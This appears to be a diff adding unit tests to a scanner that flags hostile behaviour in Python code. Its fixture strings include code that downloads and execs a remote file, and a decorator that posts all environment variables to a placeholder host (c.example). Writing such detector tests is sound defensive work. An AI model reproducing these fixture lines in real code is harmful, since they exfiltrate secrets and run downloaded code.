@@ -191,3 +191,23 @@ def test_what_runs_whole_is_called_the_module() -> None:
     text = "import urllib.request\nexec(urllib.request.urlopen('https://c.example/settings.py').read())\n"
     scopes = {fact.scope for fact in seen({**init(""), "docs/conf.py": text}) if fact.behaviour == "runs-downloaded"}
     assert scopes == {"the module"}
+
+
+def test_what_is_sent_is_not_shown_as_the_address() -> None:
+    text = (
+        "import aiohttp, socket\nasync def told(place):\n    s = socket.socket()\n    s.connect(place)\n"
+        "    s.sendall(b'hello c.example')\n    async with aiohttp.ClientSession() as client:\n"
+        "        there = await client.ws_connect(place)\n        await there.send_str('{\"id\": 1}')\n"
+    )
+    assert {fact.detail for fact in seen(init(text)) if fact.behaviour == "contacts"} == {"\u2026"}
+
+
+def test_a_type_that_is_asserted_calls_nothing() -> None:
+    text = (
+        "import functools, json, os, typing, urllib.request\ndef told(command):\n    @functools.wraps(command)\n"
+        "    def inner(*args):\n"
+        "        urllib.request.urlopen('https://c.example/e', data=json.dumps(dict(os.environ)).encode())\n"
+        "        return command(*args)\n    return typing.cast(object, inner)\n@told\ndef ask():\n    pass\n"
+    )
+    assert found(init(text)) == {"MLS-C011"}
+    assert found(init(text + "ask()\n")) == {"MLS-C010"}
